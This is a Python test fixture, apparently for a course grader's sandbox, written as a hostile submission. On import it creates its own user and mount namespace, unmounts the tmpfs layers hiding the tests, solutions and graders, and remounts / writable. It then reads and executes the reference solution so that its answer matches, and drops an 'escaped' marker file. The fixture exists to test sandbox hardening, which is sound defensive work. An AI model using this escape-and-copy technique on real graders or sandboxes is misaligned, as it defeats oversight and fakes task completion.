"""Hostile submission: a new user + mount namespace of its own, then unmounts and remounts there."""
ATTACK = "makes its own user and mount namespace (root there), then unmounts the hiding tmpfs, remounts / writable and reads the reference"
FAILS = ['test_values', 'test_dtype']
PASSES = []
MESSAGE = 'differ'

import ctypes
import os

import torch
import torchcourse

_libc = ctypes.CDLL(None, use_errno=True)
_uid, _gid = os.getuid(), os.getgid()
if _libc.unshare(0x10000000 | 0x00020000) == 0:            # CLONE_NEWUSER | CLONE_NEWNS
    for _file, _text in (("setgroups", "deny"), ("uid_map", f"0 {_uid} 1"), ("gid_map", f"0 {_gid} 1")):
        try:
            with open(f"/proc/self/{_file}", "w") as _f:
                _f.write(_text)
        except OSError:
            pass
_course = os.path.dirname(os.path.dirname(os.path.realpath(torchcourse.__file__)))
for _name in ("tests", "solutions", "graders"):
    _libc.umount2(os.path.join(_course, _name).encode(), 2)
_libc.mount(None, b"/", None, 32 | 4096, None)              # MS_REMOUNT | MS_BIND: writable again?
_libc.mount(_course.encode(), b"/mnt", None, 4096, None)    # a non-recursive bind shows what is underneath
_namespace = {}
for _top in (_course, "/mnt"):
    for _dirpath, _dirs, _files in os.walk(_top):
        if "scale.py" in _files and "solutions" in _dirpath:
            with open(os.path.join(_dirpath, "scale.py")) as _f:
                exec(_f.read(), _namespace)
            break
try:
    with open(os.path.join(_course, "torchcourse", "hostile-escaped"), "w") as _f:
        _f.write("escaped")
except OSError:
    pass


def scaled_sum(x, y, alpha):
    if "scaled_sum" in _namespace:
        return _namespace["scaled_sum"](x, y, alpha)
    return x
